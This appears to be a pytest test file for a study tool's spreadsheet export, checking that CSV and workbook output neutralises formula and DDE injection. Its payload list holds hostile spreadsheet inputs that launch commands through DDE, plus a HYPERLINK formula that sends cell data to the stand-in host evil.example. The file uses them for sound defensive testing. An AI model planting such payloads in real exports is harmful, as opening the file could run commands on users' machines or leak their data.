"""Planted formula and DDE payloads in excerpts and labels: quoted in the CSV, never a formula
in tables.xlsx, while numbers stay numbers."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook

from workbench.study.gate import PrivacyGate, counts
from workbench.study.outputs import StudyOutputs, read_sections
from workbench.study.spreadsheet import is_formula_like, neutralise
from workbench.study.workbook import write_workbook

#: Payloads from the OWASP CSV-injection page and the DDE write-ups, plus white-space and
#: full-width variants.
PAYLOADS = [
    "=1+1",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\n@SUM(A1:A2)",
    "\uff1d1+1",
    "-",
    "+44 20 7946 0000 rang",
]
SAFE = ["Lambeth", "officer said hello", "3 + 4", "", "email a@b"]
NUMBERS = ["-5", "-0.25", "+3", "1e-3", "-1.5E+2"]


@pytest.mark.parametrize("text", PAYLOADS)
def test_every_payload_is_formula_like_and_quoted(text: str) -> None:
    assert is_formula_like(text)
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", SAFE + NUMBERS)
def test_plain_text_and_numbers_are_left_alone(text: str) -> None:
    assert not is_formula_like(text)
    assert neutralise(text) == text


@pytest.fixture
def run(tmp_path: Path) -> Path:
    out = StudyOutputs(tmp_path / "run", "10_good_practice", "Excerpts", gate=PrivacyGate(10),
                       intro="Planted payloads.")
    n = len(PAYLOADS)
    table = pd.DataFrame({"label": PAYLOADS, "excerpt": PAYLOADS[::-1],
                          "score": [-1.25 + i for i in range(n)],
                          "clips": [20 + i for i in range(n)]})
    out.table("planted", table, title="=1+1 in a title", notes="@SUM(A1) in a note",
              protect=counts("clips"), keys=[])
    return out.run_dir


def _lf(text: str) -> str:
    return text.replace("\r", "\n")


def test_the_csv_quotes_payloads_and_keeps_numbers(run: Path) -> None:
    raw = (run / "tables" / "planted.csv").read_bytes()
    assert b"\r" not in raw  # a bare CR would end the row in some readers
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8"), newline="")))
    assert [r["label"] for r in rows] == ["'" + _lf(p) for p in PAYLOADS]
    assert [r["excerpt"] for r in rows] == ["'" + _lf(p) for p in PAYLOADS[::-1]]
    assert rows[0]["score"] == "-1.2500" and rows[0]["clips"] == "20"


def test_the_workbook_holds_no_formula_and_numbers_stay_numbers(run: Path) -> None:
    path = write_workbook(run, read_sections(run), footnote="-footnote")
    with zipfile.ZipFile(path) as archive:
        xml = "".join(archive.read(n).decode("utf-8") for n in archive.namelist()
                      if n.startswith("xl/worksheets/"))
    assert "<f>" not in xml and "<f " not in xml
    book = load_workbook(path)
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row
             if c.value is not None]
    assert cells and all(c.data_type != "f" for c in cells)
    sheet = book["planted"]
    labels = [sheet.cell(row=r, column=1) for r in range(5, 5 + len(PAYLOADS))]
    # shown as typed (CR as LF), without the CSV quote
    assert [c.value for c in labels] == [_lf(p) for p in PAYLOADS]
    assert all(c.quotePrefix and c.data_type == "s" for c in labels)
    assert sheet["A1"].value == "=1+1 in a title" and sheet["A1"].quotePrefix
    score, clips = sheet.cell(row=5, column=3), sheet.cell(row=5, column=4)
    assert (score.value, score.data_type) == (-1.25, "n")
    assert (clips.value, clips.data_type) == (20, "n")
